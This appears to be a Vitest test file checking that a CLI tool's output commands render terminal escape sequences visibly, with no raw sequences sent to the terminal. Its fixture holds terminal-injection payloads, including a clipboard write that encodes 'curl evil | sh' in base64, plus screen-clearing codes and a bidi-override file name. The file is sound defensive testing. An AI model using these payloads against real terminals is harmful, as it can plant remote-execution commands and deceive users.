import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { openStore } from '../../src/core/store/open.js';
import { runGardener } from '../support/cli.js';
import { PROJECT, seededDb } from './store-commands-support.js';

/** What a hostile page or file could hold: a title change, a clipboard write, a cleared screen, an erased line. */
const HOSTILE =
  'build ok\n\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b[2Kvat failure in checkout\u009b2J \u202Eexe.txt\n';
const ESC = '\u001b';
/** What a JSON output may not hold raw either: C1 controls and bidi overrides (JSON.stringify leaves them). */
const RAW_C1_OR_BIDI = /[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;
const seeded = seededDb([
  {
    original: `${HOSTILE}${'filler line of the log\n'.repeat(5)}`,
    summary: `summary: ${HOSTILE}`,
    sourcePath: `logs/\u001b]0;t\u0007run.log`,
  },
]);
afterAll(seeded.cleanup);
const [id] = seeded.ids as [string];

describe('printers of stored text send no control sequence to the terminal', () => {
  it('show prints the original and the summary with ESC shown as ␛; --raw stays byte for byte; --json stays JSON', async () => {
    for (const flags of [[], ['--summary'], ['--grep', 'vat failure'], ['--all']]) {
      const run = await runGardener(['show', id, ...flags, ...seeded.flags]);
      expect(run.code).toBe(0);
      expect(run.stdout).not.toContain(ESC);
      expect(run.stdout).toContain('␛]52;c;');
    }
    const raw = await runGardener(['show', id, '--raw', ...seeded.flags]);
    expect(raw.stdout.startsWith(HOSTILE)).toBe(true);
    const json = await runGardener(['show', id, '--json', ...seeded.flags]);
    expect(json.stdout).not.toContain(ESC);
    expect(json.stdout).not.toMatch(RAW_C1_OR_BIDI);
    expect((JSON.parse(json.stdout) as { original: string }).original.startsWith(HOSTILE)).toBe(true);
  });

  it('recall prints hits with ESC shown; --json stays valid JSON', async () => {
    const text = await runGardener(['recall', 'vat failure', '--full', ...seeded.flags]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('vat failure in checkout');
    expect(text.stdout).not.toContain(ESC);
    const json = await runGardener(['recall', 'vat failure', '--json', ...seeded.flags]);
    expect(json.stdout).not.toContain(ESC);
    expect(json.stdout).not.toMatch(RAW_C1_OR_BIDI);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\\u001b]52');
  });

  it('note --list and show of a note show ESC visibly', async () => {
    const store = openStore({ path: path.join(path.dirname(seeded.db), 'gardener.db') });
    const note = store.note({ project: PROJECT, session: 'agent-1' }, `remember \u001b[2J${HOSTILE}`);
    store.close();
    for (const args of [
      ['note', '--list'],
      ['show', note.id],
    ]) {
      const run = await runGardener([...args, ...seeded.flags]);
      expect(run.code).toBe(0);
      expect(run.stdout).toContain('remember ␛[2J');
      expect(run.stdout).not.toContain(ESC);
    }
  });

  it('stats and an error message show a hostile project name or id visibly', async () => {
    const stats = await runGardener(['stats', '--db', seeded.db, '--project', 'p\u001b]0;x\u0007']);
    expect(stats.code).toBe(0);
    expect(stats.stdout).toContain('p␛]0;x␇');
    expect(stats.stdout).not.toContain(ESC);
    const missing = await runGardener(['show', 'zz\u001b[2Jzz', ...seeded.flags]);
    expect(missing.code).toBe(3);
    expect(missing.stderr).not.toContain(ESC);
  });

  it('compress --to text shows ESC visibly; its JSON output stays JSON', async () => {
    const file = path.join(path.dirname(seeded.db), 'session.json');
    const messages = [
      { role: 'user', content: 'check the build' },
      {
        role: 'assistant',
        content: [{ type: 'tool_use', id: 't1', name: 'Bash', input: { command: 'make' } }],
      },
      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't1', content: HOSTILE }] },
      { role: 'assistant', content: 'Done.' },
    ];
    writeFileSync(file, JSON.stringify({ messages }));
    const text = await runGardener(['compress', file, '--to', 'text', '--db', seeded.db]);
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('␛]52;c;');
    expect(text.stdout).not.toContain(ESC);
    const json = await runGardener(['compress', file, '--db', seeded.db]);
    expect(json.stdout).not.toContain(ESC);
    expect(json.stdout).not.toMatch(RAW_C1_OR_BIDI);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain('\\u001b]52');
  });
});
